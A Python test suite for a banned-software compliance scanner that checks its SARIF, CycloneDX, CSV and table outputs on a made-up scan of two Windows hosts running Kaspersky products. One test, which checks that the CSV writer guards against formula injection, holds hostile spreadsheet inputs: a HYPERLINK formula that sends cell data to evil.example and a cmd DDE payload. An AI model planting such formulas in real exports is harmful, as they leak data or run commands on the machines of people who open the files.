"""The SARIF, CycloneDX, CSV and table writers, on a hand-built scan of two Windows hosts."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import jsonschema
import pytest

from banscan.models import (
    Confidence,
    Evidence,
    Finding,
    Obligation,
    ObligationStatus,
    ScanResult,
    TargetResult,
    Verdict,
)
from banscan.output import csv as csv_report
from banscan.output import cyclonedx as cdx_report
from banscan.output import sarif as sarif_report
from banscan.output import table as table_report

SARIF_SCHEMA = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"

KES_KEY = r"HKLM\SOFTWARE:Microsoft\Windows\CurrentVersion\Uninstall\{7A4192A1-84C4-4E90-A31B-B4847CA8E23A}"
KES_DIR = r"C:\Program Files (x86)\Kaspersky Lab\Kaspersky Endpoint Security for Windows"
REG_EXPORT = r"C:\exports\WKS-042-uninstall.reg:118"


def _far(deadline_report: str, deadline_mitigation: str) -> list[Obligation]:
    return [
        Obligation(
            regulation="ndaa-1634-far-52-204-23",
            status=ObligationStatus.PROHIBITED,
            since="2018-10-01",
            action="Do not provide any covered article the Government will use.",
            deadline=None,
            citation="FAR 52.204-23",
        ),
        Obligation(
            regulation="ndaa-1634-far-52-204-23",
            status=ObligationStatus.DUE,
            since="2018-10-01",
            action="Report to the Contracting Officer.",
            deadline=deadline_report,
            citation="FAR 52.204-23",
        ),
        Obligation(
            regulation="ndaa-1634-far-52-204-23",
            status=ObligationStatus.DUE,
            since="2018-10-01",
            action="Report any further available information about mitigation actions.",
            deadline=deadline_mitigation,
            citation="FAR 52.204-23",
        ),
        Obligation(
            regulation="bis-icts-2024-kaspersky",
            status=ObligationStatus.PROHIBITED,
            since="2024-09-29",
            action="No new transactions; no updates or signatures after 2024-09-29.",
            deadline=None,
            citation="89 FR 52434",
        ),
    ]


def make_result() -> ScanResult:
    kes = Finding(
        host="WKS-042",
        product="kes-windows",
        product_name="Kaspersky Endpoint Security for Windows",
        vendor="AO Kaspersky Lab",
        verdict=Verdict.COVERED,
        confidence=Confidence.DEFINITIVE,
        category="endpoint-protection",
        version="12.3.0.493",
        evidence=[
            Evidence(
                "windows.uninstall",
                "display_name",
                "Kaspersky Endpoint Security for Windows",
                KES_KEY,
                Confidence.DEFINITIVE,
                "name:Kaspersky Endpoint Security for Windows",
            ),
            Evidence(
                "windows.paths",
                "path",
                KES_DIR + r"\avp.exe",
                KES_DIR,
                Confidence.STRONG,
                r"glob:*\Kaspersky Lab\Kaspersky Endpoint Security for Windows\*",
            ),
            Evidence(
                "reg-export",
                "display_name",
                "Kaspersky Endpoint Security for Windows",
                REG_EXPORT,
                Confidence.DEFINITIVE,
                "name:Kaspersky Endpoint Security for Windows",
            ),
        ],
        obligations=_far("2024-10-04", "2024-10-15"),
        definitions_age_days=2,
    )
    ultra = Finding(
        host="WKS-042",
        product="ultraav",
        product_name="UltraAV",
        vendor="Pango Group",
        verdict=Verdict.INFORMATIONAL,
        confidence=Confidence.STRONG,
        category="endpoint-protection",
        version="1.0.11",
        evidence=[
            Evidence(
                "windows.uninstall",
                "display_name",
                "UltraAV",
                r"HKLM\SOFTWARE:Microsoft\Windows\CurrentVersion\Uninstall\UltraAV",
                Confidence.STRONG,
                "name:UltraAV",
            ),
        ],
    )
    avp = Finding(
        host="WKS-117",
        product="kaspersky-generic",
        product_name="Kaspersky software (product not identified)",
        vendor="AO Kaspersky Lab",
        verdict=Verdict.REVIEW,
        confidence=Confidence.WEAK,
        category="endpoint-protection",
        evidence=[Evidence("processes", "process", "avp.exe", "pid:4312", Confidence.WEAK, "iexact:avp.exe")],
        obligations=_far("2024-10-04", "2024-10-15"),
    )
    agent = Finding(
        host="WKS-117",
        product="ksc-network-agent",
        product_name="Kaspersky Security Center Network Agent",
        vendor="AO Kaspersky Lab",
        verdict=Verdict.ACCEPTED,
        confidence=Confidence.DEFINITIVE,
        category="management-agent",
        version="14.0.0.10902",
        evidence=[
            Evidence(
                "windows.uninstall",
                "display_name",
                "Kaspersky Security Center Network Agent",
                r"HKLM\SOFTWARE:WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall\{5E3A6A3B}",
                Confidence.DEFINITIVE,
            ),
            Evidence(
                "windows.services",
                "service",
                "klnagent",
                r"Windows/System32/config/SYSTEM:ControlSet001\Services\klnagent",
                Confidence.STRONG,
            ),
        ],
        obligations=[
            Obligation(
                "ndaa-1634-far-52-204-23",
                ObligationStatus.OVERDUE,
                "2018-10-01",
                "Report to the Contracting Officer.",
                "2024-09-20",
                "FAR 52.204-23",
            ),
            Obligation(
                "ndaa-1634-far-52-204-23", ObligationStatus.ENDED, "2018-10-01", "Old action.", "2024-01-01"
            ),
        ],
        exception={
            "reason": "Lab isolation network, decommission ticket CHG-2291",
            "approver": "ciso@example.org",
            "expires": "2024-12-31",
        },
    )
    return ScanResult(
        banscan_version="0.1.0",
        catalog_version="2024.10.1",
        as_of="2024-10-01",
        role="federal-contractor",
        targets=[
            TargetResult("WKS-042", "live", records=812),
            TargetResult(
                r"\\fs01\inventory\wks-117.reg",
                "reg-export",
                records=240,
                errors=["line 5012: unterminated string value, rest of key skipped"],
            ),
        ],
        findings=[kes, ultra, avp, agent],
        hosts=["WKS-042", "WKS-117"],
        generated_at="2024-10-01T14:03:22+00:00",
    )


def empty_result() -> ScanResult:
    return ScanResult(
        "0.1.0",
        "2024.10.1",
        "2024-10-01",
        "user",
        targets=[TargetResult("LAPTOP-7", "live", records=355)],
        hosts=["LAPTOP-7"],
    )


# --- SARIF ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.Draft7Validator:
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    assert schema["$schema"] == "http://json-schema.org/draft-07/schema#"
    assert "2.1.0" in schema["title"] and schema["$id"].endswith("sarif-schema-2.1.0.json")
    jsonschema.Draft7Validator.check_schema(schema)
    return jsonschema.Draft7Validator(schema, format_checker=_format_checker())


_URI_CHARS = re.compile(r"^[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]*$")


def _format_checker() -> jsonschema.FormatChecker:
    """Draft 7 formats, with uri / uri-reference / date-time checked even without optional packages."""
    checker: jsonschema.FormatChecker = copy.deepcopy(jsonschema.Draft7Validator.FORMAT_CHECKER)

    def _uri_reference(value: object) -> bool:
        return not isinstance(value, str) or bool(_URI_CHARS.match(value))

    def _uri(value: object) -> bool:
        return not isinstance(value, str) or (_uri_reference(value) and bool(urlsplit(value).scheme))

    def _date_time(value: object) -> bool:
        if not isinstance(value, str):
            return True
        try:
            return dt.datetime.fromisoformat(value.replace("Z", "+00:00")).tzinfo is not None
        except ValueError:
            return False

    checker.checks("uri-reference")(_uri_reference)
    checker.checks("uri")(_uri)
    checker.checks("date-time")(_date_time)
    return checker


def _errors(validator: jsonschema.Draft7Validator, doc: Any) -> list[str]:
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(doc)]


def test_sarif_is_valid_against_the_official_schema(sarif_validator: jsonschema.Draft7Validator) -> None:
    doc = json.loads(sarif_report.render(make_result()))
    assert _errors(sarif_validator, doc) == []
    empty = json.loads(sarif_report.render(empty_result()))
    assert _errors(sarif_validator, empty) == []


def test_sarif_validation_catches_a_broken_log(sarif_validator: jsonschema.Draft7Validator) -> None:
    doc = json.loads(sarif_report.render(make_result()))
    no_version = copy.deepcopy(doc)
    del no_version["version"]
    assert any("'version' is a required property" in e for e in _errors(sarif_validator, no_version))
    bad_level = copy.deepcopy(doc)
    bad_level["runs"][0]["results"][0]["level"] = "critical"
    assert _errors(sarif_validator, bad_level)
    bad_region = copy.deepcopy(doc)
    bad_region["runs"][0]["results"][0]["locations"][2]["physicalLocation"]["region"]["startLine"] = 0
    assert _errors(sarif_validator, bad_region)
    bad_uri = copy.deepcopy(doc)
    bad_uri["runs"][0]["results"][0]["locations"][1]["physicalLocation"]["artifactLocation"]["uri"] = (
        r"C:\Program Files\Kaspersky Lab"
    )
    assert any("uri-reference" in e for e in _errors(sarif_validator, bad_uri))


def test_sarif_tool_rules_and_run_properties() -> None:
    run = json.loads(sarif_report.render(make_result()))["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "banscan" and driver["version"] == "0.1.0"
    assert driver["informationUri"].startswith("https://")
    assert [r["id"] for r in driver["rules"]] == [
        "kes-windows",
        "ultraav",
        "kaspersky-generic",
        "ksc-network-agent",
    ]
    kes_rule = driver["rules"][0]
    assert kes_rule["shortDescription"]["text"] == "Kaspersky Endpoint Security for Windows"
    assert kes_rule["properties"]["vendor"] == "AO Kaspersky Lab"
    assert kes_rule["properties"]["category"] == "endpoint-protection"
    assert run["properties"]["catalog_version"] == "2024.10.1"
    assert run["properties"]["as_of"] == "2024-10-01"
    assert run["properties"]["role"] == "federal-contractor"


def test_sarif_results_levels_messages_and_fingerprints() -> None:
    results = json.loads(sarif_report.render(make_result()))["runs"][0]["results"]
    assert [(r["ruleId"], r["level"]) for r in results] == [
        ("kes-windows", "error"),
        ("ultraav", "note"),
        ("kaspersky-generic", "warning"),
        ("ksc-network-agent", "note"),
    ]
    assert results[0]["message"]["text"] == (
        "Kaspersky Endpoint Security for Windows (covered, definitive) on host WKS-042"
    )
    assert [r["ruleIndex"] for r in results] == [0, 1, 2, 3]
    props = results[0]["properties"]
    assert (
        props["host"] == "WKS-042" and props["verdict"] == "covered" and props["confidence"] == "definitive"
    )
    assert [o["regulation"] for o in props["obligations"]].count("ndaa-1634-far-52-204-23") == 3
    assert len(props["evidence"]) == 3
    # the fingerprint is stable across renders and depends only on host + product
    again = json.loads(sarif_report.render(make_result()))["runs"][0]["results"]
    fps = [r["partialFingerprints"][sarif_report.FINGERPRINT_KEY] for r in results]
    assert fps == [r["partialFingerprints"][sarif_report.FINGERPRINT_KEY] for r in again]
    assert len(set(fps)) == 4
    assert fps[0] == sarif_report.fingerprint("WKS-042", "kes-windows")


def test_sarif_locations_physical_and_logical() -> None:
    kes = json.loads(sarif_report.render(make_result()))["runs"][0]["results"][0]
    reg, folder, export = kes["locations"]
    assert "physicalLocation" not in reg
    assert reg["logicalLocations"][0]["fullyQualifiedName"] == KES_KEY
    assert reg["logicalLocations"][0]["kind"] == "registryKey"
    assert folder["physicalLocation"]["artifactLocation"]["uri"] == (
        "file:///C:/Program%20Files%20%28x86%29/Kaspersky%20Lab/Kaspersky%20Endpoint%20Security%20for%20Windows"
    )
    assert "region" not in folder["physicalLocation"]
    assert export["physicalLocation"]["artifactLocation"]["uri"] == "file:///C:/exports/WKS-042-uninstall.reg"
    assert export["physicalLocation"]["region"] == {"startLine": 118}
    assert "display_name" in export["message"]["text"]


def test_sarif_location_shapes() -> None:
    loc = sarif_report.location
    assert loc("pid:4312")["logicalLocations"][0]["kind"] == "process"
    assert loc("/var/lib/dpkg/status:2041")["physicalLocation"] == {
        "artifactLocation": {"uri": "file:///var/lib/dpkg/status"},
        "region": {"startLine": 2041},
    }
    assert loc("exports/intune.csv:7")["physicalLocation"]["artifactLocation"]["uri"] == "exports/intune.csv"
    hive = loc(r"Windows/System32/config/SYSTEM:ControlSet001\Services\klnagent")
    assert hive["physicalLocation"]["artifactLocation"]["uri"] == "Windows/System32/config/SYSTEM"
    assert hive["logicalLocations"][0]["fullyQualifiedName"] == r"ControlSet001\Services\klnagent"
    wmi = loc(r"root\SecurityCenter2:AntiVirusProduct")
    assert "physicalLocation" not in wmi
    unc = loc(r"\\fs01\share\wks.reg:3")
    assert unc["physicalLocation"]["artifactLocation"]["uri"] == "file://fs01/share/wks.reg"


def test_sarif_suppression_only_on_accepted() -> None:
    results = json.loads(sarif_report.render(make_result()))["runs"][0]["results"]
    suppressed = [r for r in results if "suppressions" in r]
    assert [r["ruleId"] for r in suppressed] == ["ksc-network-agent"]
    (sup,) = suppressed[0]["suppressions"]
    assert sup["kind"] == "external" and sup["state"] == "accepted"
    assert "CHG-2291" in sup["justification"] and "ciso@example.org" in sup["justification"]
    assert "2024-12-31" in sup["justification"]


def test_sarif_invocation_reports_target_errors() -> None:
    run = json.loads(sarif_report.render(make_result()))["runs"][0]
    (inv,) = run["invocations"]
    assert inv["executionSuccessful"] is True
    (note,) = inv["toolExecutionNotifications"]
    assert note["level"] == "error"
    assert "unterminated string value" in note["message"]["text"]
    assert "wks-117.reg" in note["message"]["text"]
    assert inv["endTimeUtc"] == "2024-10-01T14:03:22Z"


def test_sarif_execution_unsuccessful_when_nothing_could_be_read() -> None:
    res = empty_result()
    res.targets = [TargetResult("missing.csv", "csv", records=0, errors=["No such file or directory"])]
    (inv,) = json.loads(sarif_report.render(res))["runs"][0]["invocations"]
    assert inv["executionSuccessful"] is False


# --- CycloneDX -----------------------------------------------------------------------------------


def _cdx_validate(text: str) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    error = JsonStrictValidator(SchemaVersion.V1_6).validate_str(text)
    assert error is None, str(error)


def _props(component: dict[str, Any]) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for p in component.get("properties", []):
        out.setdefault(p["name"], []).append(p["value"])
    return out


def test_cyclonedx_is_strictly_valid_1_6() -> None:
    text = cdx_report.render(make_result())
    _cdx_validate(text)
    doc = json.loads(text)
    assert doc["bomFormat"] == "CycloneDX" and doc["specVersion"] == "1.6"
    assert "vulnerabilities" not in doc
    # the same scan renders the same document
    assert cdx_report.render(make_result()) == text


def test_cyclonedx_strict_validator_rejects_a_broken_bom() -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    doc = json.loads(cdx_report.render(make_result()))
    doc["components"][0]["type"] = "antivirus"
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(json.dumps(doc)) is not None


def test_cyclonedx_components_and_properties() -> None:
    doc = json.loads(cdx_report.render(make_result()))
    comps = doc["components"]
    assert len(comps) == 4
    assert all(c["type"] == "application" for c in comps)
    refs = [c["bom-ref"] for c in comps]
    assert len(set(refs)) == 4
    assert cdx_report.bom_ref("WKS-042", "kes-windows") in refs
    kes = next(c for c in comps if c["bom-ref"] == cdx_report.bom_ref("WKS-042", "kes-windows"))
    assert kes["name"] == "Kaspersky Endpoint Security for Windows"
    assert kes["version"] == "12.3.0.493"
    assert kes["supplier"]["name"] == "AO Kaspersky Lab" and kes["publisher"] == "AO Kaspersky Lab"
    props = _props(kes)
    assert props["banscan:host"] == ["WKS-042"]
    assert props["banscan:product"] == ["kes-windows"]
    assert props["banscan:verdict"] == ["covered"]
    assert props["banscan:confidence"] == ["definitive"]
    assert len(props["banscan:evidence"]) == 3
    assert any(KES_KEY in v for v in props["banscan:evidence"])
    locations = {o["location"] for o in kes["evidence"]["occurrences"]}
    assert KES_KEY in locations and REG_EXPORT in locations
    agent = next(c for c in comps if _props(c)["banscan:product"] == ["ksc-network-agent"])
    assert _props(agent)["banscan:verdict"] == ["accepted"]
    assert _props(agent)["banscan:exception:approver"] == ["ciso@example.org"]
    # two hosts: the BOM describes the scan, not one machine
    root = doc["metadata"]["component"]
    assert root["type"] == "application" and root["name"] == "banscan scan"
    assert sorted(_props(doc["metadata"])["banscan:host"]) == ["WKS-042", "WKS-117"]
    assert any("unterminated" in v for v in _props(doc["metadata"])["banscan:target_error"])
    deps = {d["ref"]: d.get("dependsOn", []) for d in doc["dependencies"]}
    assert sorted(deps[root["bom-ref"]]) == sorted(refs)


def test_cyclonedx_single_host_is_a_device() -> None:
    res = make_result()
    res.findings = [f for f in res.findings if f.host == "WKS-042"]
    res.hosts = ["WKS-042"]
    text = cdx_report.render(res)
    _cdx_validate(text)
    doc = json.loads(text)
    assert doc["metadata"]["component"]["type"] == "device"
    assert doc["metadata"]["component"]["name"] == "WKS-042"
    assert len(doc["components"]) == 2


def test_cyclonedx_empty_result_is_valid() -> None:
    text = cdx_report.render(empty_result())
    _cdx_validate(text)
    doc = json.loads(text)
    assert doc.get("components", []) == []
    assert doc["metadata"]["component"]["name"] == "LAPTOP-7"


# --- CSV -----------------------------------------------------------------------------------------


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_header_and_rows() -> None:
    text = csv_report.render(make_result())
    assert text.splitlines()[0] == ",".join(csv_report.COLUMNS)
    rows = _csv_rows(text)
    assert [(r["host"], r["product"], r["verdict"]) for r in rows] == [
        ("WKS-042", "kes-windows", "covered"),
        ("WKS-042", "ultraav", "informational"),
        ("WKS-117", "kaspersky-generic", "review"),
        ("WKS-117", "ksc-network-agent", "accepted"),
    ]
    kes = rows[0]
    assert kes["product_name"] == "Kaspersky Endpoint Security for Windows"
    assert kes["vendor"] == "AO Kaspersky Lab"
    assert kes["category"] == "endpoint-protection"
    assert kes["version"] == "12.3.0.493"
    assert kes["confidence"] == "definitive"
    assert kes["evidence_count"] == "3"
    assert kes["first_evidence"] == f"display_name=Kaspersky Endpoint Security for Windows @ {KES_KEY}"
    assert kes["regulations"] == "ndaa-1634-far-52-204-23;bis-icts-2024-kaspersky"
    assert kes["next_deadline"] == "2024-10-04"
    assert kes["definitions_age_days"] == "2"
    assert rows[1]["regulations"] == "" and rows[1]["next_deadline"] == ""
    assert rows[1]["definitions_age_days"] == ""
    assert rows[2]["first_evidence"] == "process=avp.exe @ pid:4312"
    # an overdue deadline is said as such, never as the next deadline; an ended one is neither
    assert rows[3]["next_deadline"] == "" and rows[3]["overdue_since"] == "2024-09-20"
    assert rows[0]["overdue_since"] == "" and rows[0]["days_overdue"] == ""


def test_csv_guards_against_formula_injection() -> None:
    res = make_result()
    res.findings[0].product_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    res.findings[0].vendor = "+cmd|' /C calc'!A0"
    res.findings[1].product_name = "@SUM(1+1)"
    res.findings[1].version = "-2+3"
    text = csv_report.render(res)
    rows = _csv_rows(text)
    assert rows[0]["product_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[0]["vendor"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["product_name"] == "'@SUM(1+1)"
    assert rows[1]["version"] == "'-2+3"
    # quoting keeps the embedded quotes and commas inside one cell
    assert len(rows) == 4 and all(len(r) == len(csv_report.COLUMNS) for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_csv_empty_result_is_header_only() -> None:
    text = csv_report.render(empty_result())
    assert text == ",".join(csv_report.COLUMNS) + "\n"


# --- table ---------------------------------------------------------------------------------------


def test_table_shows_findings_summary_and_errors() -> None:
    text = table_report.render(make_result(), width=160)
    for needle in (
        "WKS-042",
        "WKS-117",
        "covered",
        "review",
        "informational",
        "accepted",
        "Kaspersky Endpoint Security for",
        "UltraAV",
        "2024-10-04",
        "Deadline",
        "overdue since 2024-09-20",  # a passed deadline is said to be overdue, never "next"
    ):
        assert needle in text, needle
    assert "2 hosts scanned, 2 with findings: 1 covered, 1 review, 1 accepted, 1 informational" in text
    assert "Error reading \\\\fs01\\inventory\\wks-117.reg (reg-export): line 5012" in text
    assert "3: display_name=Kaspersky" in text
    assert "[exception until" in text and "2024-12-31]" in text
    assert "\x1b[" not in text  # plain text unless colour is asked for


def test_table_colours_by_verdict_when_asked() -> None:
    text = table_report.render(make_result(), width=160, color=True)
    assert "\x1b[" in text
    assert "\x1b[1;31m" in text  # bold red for covered


def test_table_says_when_nothing_could_be_read_and_prints_each_error_once() -> None:
    res = empty_result()
    res.hosts = []
    res.targets = [TargetResult("bad.json", "osquery", errors=["bad.json:3: invalid JSON"])]
    text = table_report.render(res)
    assert "No banned software found" not in text
    assert "Nothing could be read (1 input error)." in text
    assert "Error reading bad.json (osquery): bad.json:3: invalid JSON" in text
    # errors already on stderr are counted, not printed again
    text = table_report.render(res, errors_on_stderr=True)
    assert "Error reading" not in text and "Nothing could be read (1 input error)." in text
    res.hosts = ["A"]
    res.targets.append(TargetResult("good.json", "osquery", records=4))
    text = table_report.render(res, errors_on_stderr=True)
    assert "No banned software found on 1 host." in text and "1 input error, reported on stderr." in text
    assert "Error reading" not in text


def test_table_markup_in_names_is_not_interpreted() -> None:
    res = make_result()
    res.findings[0].product_name = "[bold]Kaspersky[/bold] Free"
    assert "[bold]Kaspersky[/bold] Free" in table_report.render(res, width=200)


def test_table_no_findings() -> None:
    text = table_report.render(empty_result())
    assert "No banned software found on 1 host." in text
    assert "Host" not in text
    res = empty_result()
    res.hosts = ["A", "B", "C"]
    res.targets.append(TargetResult("bad.json", "osquery", errors=["invalid JSON at line 3"]))
    text = table_report.render(res)
    assert "No banned software found on 3 hosts." in text
    assert "Error reading bad.json (osquery): invalid JSON at line 3" in text


def test_table_reads_at_80_columns() -> None:
    """Narrow terminals get a block per finding: names, verdicts and evidence whole, no line
    longer than the terminal, nothing cut to an ellipsis."""
    text = table_report.render(make_result(), width=80)
    assert all(len(line) <= 80 for line in text.splitlines())
    assert "…" not in text
    for needle in (
        "WKS-042  covered (definitive)  due 2024-10-04  no updates for 2 days",
        "  Kaspersky Endpoint Security for Windows 12.3.0.493",
        "WKS-117  accepted (definitive)  overdue since 2024-09-20",
        "  evidence 1: process=avp.exe @ pid:4312",
    ):
        assert needle in text, needle
    wide = table_report.render(make_result(), width=200)
    assert "┃ Host" in wide and "Confidence" in wide  # the table where there is room
